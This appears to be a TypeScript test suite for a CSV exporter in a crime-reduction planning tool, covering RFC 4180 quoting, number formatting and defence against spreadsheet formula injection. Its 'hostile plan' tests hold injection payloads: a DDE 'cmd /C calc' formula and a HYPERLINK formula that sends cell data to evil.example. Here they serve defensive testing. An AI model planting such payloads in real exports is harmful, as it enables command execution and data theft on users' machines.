import fc from 'fast-check';
import { BOM, csvFromRows, parseCsv, plainNumber, toCsv } from '../../../src/core/share/csv';
import { neutralise, startsDangerously, unneutralise } from '../../../src/core/share/neutralise';
import { UNIFORM_COLUMNS, uniformRecords } from '../../../src/core/share/uniform-format';
import { criminalDamageMeasurements, criminalDamageTarget, HOSTILE_TEXTS, hostileActions, seed003Actions } from './fixtures';

const EXPORTED_ON = '2024-05-17';
const col = (name: (typeof UNIFORM_COLUMNS)[number]) => UNIFORM_COLUMNS.indexOf(name);

describe('CSV file shape', () => {
  const csv = toCsv(uniformRecords({ partnership: 'Derby CDRP', actions: seed003Actions(), targets: [], measurements: [], exportedOn: EXPORTED_ON }));

  it('is UTF-8 text with a BOM, CRLF line ends and no bare LF or CR', () => {
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // Line ends outside quoted fields are CRLF; inside a quoted field a newline is data.
    const outside = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(outside.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(outside.split('\r\n')).toHaveLength(19); // header, 17 records, final empty string
  });

  it('quotes fields with commas, quotes and newlines as RFC 4180 says', () => {
    expect(csvFromRows([['a,b', 'say "hi"', 'two\nlines', 'plain']])).toBe('"a,b","say ""hi""","two\nlines",plain\r\n');
    const rows = parseCsv(csv);
    const a33 = rows.find((r) => r[col('record_id')] === 'persistent-offending/3.3')!;
    expect(a33[col('title')]).toContain('"Narrowing the Justice Gap"');
    expect(csv).toContain('""Narrowing the Justice Gap""');
    expect(rows.find((r) => r[col('record_id')] === 'persistent-offending/1.3')![col('title')]).toContain('“virtual communities”');
  });

  it('writes numbers plain, without exponents or separators', () => {
    expect([1140, -45, -0.16, 0.0000001, 1e21, 957.6, -0].map(plainNumber)).toEqual(['1140', '-45', '-0.16', '0.0000001', '1000000000000000000000', '957.6', '0']);
    expect(plainNumber(-1.5e-7)).toBe('-0.00000015');
    expect(plainNumber(1.25e22)).toBe('12500000000000000000000');
    expect(plainNumber(NaN)).toBe('');
  });
});

describe('a hostile plan', () => {
  const records = uniformRecords({
    partnership: "=cmd|' /C calc'!A0",
    actions: hostileActions(),
    targets: [criminalDamageTarget()],
    measurements: criminalDamageMeasurements().map((m) => (m.period === '2004/05' ? { ...m, variance: -0.16 } : m)),
    exportedOn: EXPORTED_ON,
  });
  const rows = parseCsv(toCsv(records));

  it('exports with every dangerous cell neutralised and its text kept', () => {
    const numeric = ['value', 'milestone', 'target', 'variance'].map((c) => col(c as never));
    for (const r of rows.slice(1)) {
      r.forEach((cell, i) => {
        if (numeric.includes(i)) expect(cell).toMatch(/^(-?\d+(\.\d+)?)?$/);
        else expect(startsDangerously(cell)).toBe(false);
      });
    }
    const actionRows = rows.filter((r) => r[col('record_type')] === 'action');
    HOSTILE_TEXTS.forEach((t, i) => {
      const text = t.trim();
      for (const c of ['record_id', 'priority', 'strand', 'theme', 'title', 'lead_agency'] as const) {
        if (c === 'record_id') continue; // the id is derived from the ref, checked below
        expect(actionRows[i][col(c)]).toBe(neutralise(text));
        expect(unneutralise(actionRows[i][col(c)])).toBe(text);
      }
    });
    expect(actionRows[0][col('title')]).toBe('\'=HYPERLINK("http://evil.example/?d="&A1,"Click for details")');
    expect(actionRows[1][col('title')]).toBe("'+44 1332 123456");
    expect(actionRows[3][col('title')]).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(rows[1][col('partnership')]).toBe("'=cmd|' /C calc'!A0");
  });

  it('keeps real numbers in numeric columns as numbers, even negative ones', () => {
    const m = rows.find((r) => r[col('record_id')] === 'T1@2004/05')!;
    expect(m[col('variance')]).toBe('-0.16');
    expect(m[col('value')]).toBe('1050');
    expect(rows.find((r) => r[col('record_id')] === 'T1@2005/06')![col('variance')]).toBe('10');
  });
});

describe('neutralising', () => {
  it('prefixes a quote to text starting with = + - @ tab or CR, and nothing else', () => {
    expect(['=1', '+1', '-1', '@x', '\tx', '\rx'].map(neutralise)).toEqual(["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx"]);
    expect(['1', ' =1', 'a=1', "'hello", '', '<5'].map(neutralise)).toEqual(['1', ' =1', 'a=1', "'hello", '', '<5']);
    expect(neutralise("'=x")).toBe("''=x");
  });
});

const dangerousish = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', 'Z', '1', '’', 'é', '\uFEFF') });
const anyText = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), dangerousish);

describe('CSV properties', () => {
  it('parseCsv(csvFromRows(rows)) gives back the neutralised text, and no cell starts dangerously', () => {
    fc.assert(
      fc.property(fc.array(fc.array(anyText, { minLength: 1, maxLength: 6 }), { maxLength: 6 }), (rows) => {
        const back = parseCsv(BOM + csvFromRows(rows));
        expect(back).toEqual(rows.map((r) => r.map(neutralise)));
        for (const r of back) for (const c of r) expect(startsDangerously(c)).toBe(false);
        expect(back.map((r) => r.map(unneutralise))).toEqual(rows);
      }),
      { numRuns: 500 },
    );
  });

  it('numbers survive as the same number', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
        const [[cell]] = parseCsv(csvFromRows([[n]]));
        expect(Number(cell)).toBe(Object.is(n, -0) ? 0 : n);
        expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
      }),
      { numRuns: 500 },
    );
  });

  it('text fields of whole records round-trip through toCsv', () => {
    fc.assert(
      fc.property(anyText, anyText, (title, agency) => {
        const [rec] = uniformRecords({
          partnership: null,
          actions: [{ ...hostileActions()[0], action: title, leadAgency: agency, ref: 'R1' }],
          targets: [],
          measurements: [],
          exportedOn: EXPORTED_ON,
        });
        const rows = parseCsv(toCsv([rec]));
        expect(rows[0]).toEqual([...UNIFORM_COLUMNS]);
        expect(rows[1]).toHaveLength(UNIFORM_COLUMNS.length);
        expect(rows[1][col('title')]).toBe(neutralise(rec.title ?? ''));
        expect(rows[1][col('lead_agency')]).toBe(neutralise(rec.lead_agency ?? ''));
      }),
      { numRuns: 300 },
    );
  });
});

describe('parseCsv tolerance', () => {
  it('reads LF and CR line ends, a missing final line end, and stray quotes', () => {
    expect(parseCsv('a,b\nc,d')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
    expect(parseCsv('a\rb\r')).toEqual([['a'], ['b']]);
    expect(parseCsv('ab"c,"d""e"\r\n')).toEqual([['ab"c', 'd"e']]);
    expect(parseCsv('')).toEqual([]);
    expect(parseCsv('\r\n')).toEqual([['']]);
    expect(parseCsv('a,\r\n')).toEqual([['a', '']]);
  });
});
